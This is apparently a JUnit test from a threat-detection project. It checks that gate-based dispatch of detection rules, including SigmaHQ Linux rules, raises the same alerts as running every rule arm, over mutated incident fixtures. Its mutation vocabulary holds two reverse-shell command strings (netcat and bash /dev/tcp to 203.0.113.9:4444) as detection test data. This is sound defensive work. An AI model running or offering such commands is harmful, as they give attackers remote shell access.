package dev.hookline.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.alert.Alert;
import dev.hookline.bench.BenignMix;
import dev.hookline.bench.RulePackBenchmark;
import dev.hookline.kql.Arm;
import dev.hookline.kql.ArmGate;
import dev.hookline.schema.Column;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.testing.Fixtures;
import java.util.ArrayList;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * Skipping arms by their gates changes nothing but the work: over every shipped rule and the 59-rule benchmark
 * pack, a detector that dispatches by gate raises exactly the alerts (rule, arm, row, in order) of one that runs
 * every arm, on the fixture incidents and on thousands of mutations of them that put gate keys in other cases,
 * in other columns, near misses of them, empty and missing values into the gated columns (integer columns:
 * listed ports, their neighbours, other and missing ports).
 */
class GatedDispatchMatchesRunningEveryArmTest {
    private static List<String> alerts(Detector d, List<String> sink, Event e) {
        sink.clear();
        d.accept(e, Fixtures.NOW);
        return List.copyOf(sink);
    }

    private static Detector detector(List<Rule> rules, List<String> sink, boolean gated) throws RuleException {
        return new Detector(rules, Tuning.NONE, (Alert a) -> sink.add(a.rule().id() + "/" + a.arm() + " "
                + Arrays.deepToString(a.row())), dev.hookline.kql.AncestryResolver.NONE, gated);
    }

    @Test
    void gatedAndUngatedDetectorsRaiseTheSameAlertsOnIncidentsAndTheirMutations() throws Exception {
        List<Rule> rules = new ArrayList<>(new RuleLoader().loadBuiltin());
        rules.addAll(RulePackBenchmark.pack());
        assertSameAlerts(rules, 50, 200);
    }

    /**
     * SigmaHQ's Linux rules (read in place from ../shared): their `FolderPath endswith "/name"` (file-name gates)
     * and `contains`/`startswith`/`endswith` lists (needle gates), with the built-in packs.
     */
    @Test
    void gatedAndUngatedDetectorsRaiseTheSameAlertsWithSigmaHqLinuxRules() throws Exception {
        Path linux = Path.of("..", "..", "shared", "corpora", "sigma", "rules", "linux"); // from agent/
        if (!Files.isDirectory(linux)) {
            linux = Path.of("..", "shared", "corpora", "sigma", "rules", "linux");
        }
        if (!Files.isDirectory(linux)) {
            System.out.println("skipped: no SigmaHQ corpus at ../shared/corpora/sigma/rules/linux");
            return;
        }
        RuleLoader loader = new RuleLoader();
        List<Rule> rules = new ArrayList<>(loader.loadBuiltin());
        rules.addAll(loader.loadReport(linux).rules());
        List<ArmGate> gates = assertSameAlerts(rules, 120, 200);
        // the callback-port rule's `RemotePort in (...)` is among them (an integer gate, mutated above)
        assertTrue(gates.stream().anyMatch(g -> g.probes().stream()
                .anyMatch(p -> p.match() == ArmGate.Match.NUMBER && p.columnId() == Columns.REMOTE_PORT.id())));
    }

    private static List<ArmGate> assertSameAlerts(List<Rule> rules, int minGated, int minAlerts) throws Exception {
        List<ArmGate> gates = new ArrayList<>();
        int arms = 0;
        for (Rule r : rules) {
            if (!Platform.runsOn(r.platform(), Platform.LINUX)) {
                continue;
            }
            List<Arm> ruleArms;
            try {
                ruleArms = r.compiled().streaming().arms();
            } catch (dev.hookline.kql.NotStreamableException e) {
                continue; // scheduled, never streamed
            }
            for (Arm a : ruleArms) {
                arms++;
                if (a.gate() != null) {
                    gates.add(a.gate());
                }
            }
        }
        // 27 of 106 with equality gates only; 64 of 106 with term gates (has, has_any, has_all and or-chains)
        assertTrue(gates.size() >= minGated, "only " + gates.size() + " of " + arms + " arms have a gate");

        // every gate key, and near misses of it, is a value the mutations put into gated columns; term keys also
        // inside longer values, glued to other letters, and spelt with non-ASCII chars that fold to ASCII letters
        Set<String> vocabulary = new LinkedHashSet<>(List.of("", "node", "sh", "bash", "true", "NODE", "İ", "ı",
                "sh -c 'nc -e /bin/sh 203.0.113.9 4444'", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
        Set<Integer> gatedColumns = new LinkedHashSet<>();
        Set<Long> numbers = new LinkedHashSet<>(List.of(0L, 22L, 53L, 80L, 443L, 4873L));
        for (ArmGate g : gates) {
            for (ArmGate.Probe p : g.probes()) {
                gatedColumns.add(p.columnId());
                for (String k : p.keys()) {
                    if (p.match() == ArmGate.Match.NUMBER) { // the integer, its neighbours
                        long v = Long.parseLong(k);
                        numbers.addAll(List.of(v, v - 1, v + 1));
                        continue;
                    }
                    vocabulary.add(k);
                    vocabulary.add(k.toUpperCase(Locale.ROOT));
                    vocabulary.add(k + "x");
                    if (k.length() > 1) {
                        vocabulary.add(k.substring(1));
                    }
                    if (p.match() == ArmGate.Match.TERM) {
                        vocabulary.add("/usr/bin/" + k + " -c x");
                        vocabulary.add("a_" + k + ".b");
                        vocabulary.add(foldTraps(k));
                    }
                    if (p.match() == ArmGate.Match.NAME) { // the name as a path's last segment, and not last
                        vocabulary.add("/usr/bin/" + k);
                        vocabulary.add("/" + k.toUpperCase(Locale.ROOT));
                        vocabulary.add("/opt/" + foldTraps(k));
                        vocabulary.add("/" + k + "/x");
                    }
                    if (p.match() == ArmGate.Match.CONTAINS) { // the needle inside, at either end, cut short
                        vocabulary.add("sh -c '" + k + " x'");
                        vocabulary.add(k.toUpperCase(Locale.ROOT) + " y");
                        vocabulary.add("x " + foldTraps(k));
                        vocabulary.add(k.substring(0, k.length() - 1));
                    }
                }
            }
        }
        List<String> words = new ArrayList<>(vocabulary);
        List<Long> ints = new ArrayList<>(numbers);
        List<Column> columns = new ArrayList<>();
        for (int id : gatedColumns) {
            columns.add(Columns.get(id));
        }

        List<Event> base = new ArrayList<>(Fixtures.events("hookline-pack/cases.jsonl"));
        base.addAll(Fixtures.events("seed-cases.jsonl"));
        base.addAll(BenignMix.generate(512, 7));
        List<String> gatedSink = new ArrayList<>();
        List<String> fullSink = new ArrayList<>();
        Detector gated = detector(rules, gatedSink, true);
        Detector full = detector(rules, fullSink, false);
        Random rnd = new Random(20261202);
        long alertsSeen = 0;
        int events = 0;
        for (int round = 0; round < 12; round++) {
            for (Event original : base) {
                Event e = original.copy();
                if (round > 0) {
                    for (int m = 1 + rnd.nextInt(3); m > 0; m--) {
                        Column c = columns.get(rnd.nextInt(columns.size()));
                        int pick = rnd.nextInt(10);
                        if (c.type().numeric()) { // an integer gate's column: a listed value, a neighbour, none
                            e.set(c, pick == 0 ? Event.NULL : ints.get(rnd.nextInt(ints.size())));
                        } else if (pick == 0) {
                            e.set(c, (String) null);
                        } else if (pick < 4) { // the event's own value in another case
                            String v = e.getString(c);
                            e.set(c, v == null ? "" : rnd.nextBoolean() ? v.toUpperCase(Locale.ROOT) : v.toLowerCase(Locale.ROOT));
                        } else if (pick == 4) { // the event's own value with chars that fold to ASCII letters
                            String v = e.getString(c);
                            e.set(c, v == null ? "ſh" : foldTraps(v));
                        } else {
                            e.set(c, words.get(rnd.nextInt(words.size())));
                        }
                    }
                }
                List<String> want = alerts(full, fullSink, e);
                assertEquals(want, alerts(gated, gatedSink, e), "event " + e);
                alertsSeen += want.size();
                events++;
            }
        }
        assertTrue(alertsSeen >= minAlerts, "the comparison must include matches: " + alertsSeen + " alerts on " + events);
        return gates;
    }

    /**
     * The value with s, k and K spelt as the long s (ſ) and the Kelvin sign, which Kusto's case folding turns into
     * s and k: `has "bash"` still finds "baſh", whose ASCII terms are "ba" and "h".
     */
    private static String foldTraps(String v) {
        return v.replace('s', 'ſ').replace('k', '\u212A').replace('K', '\u212A');
    }
}
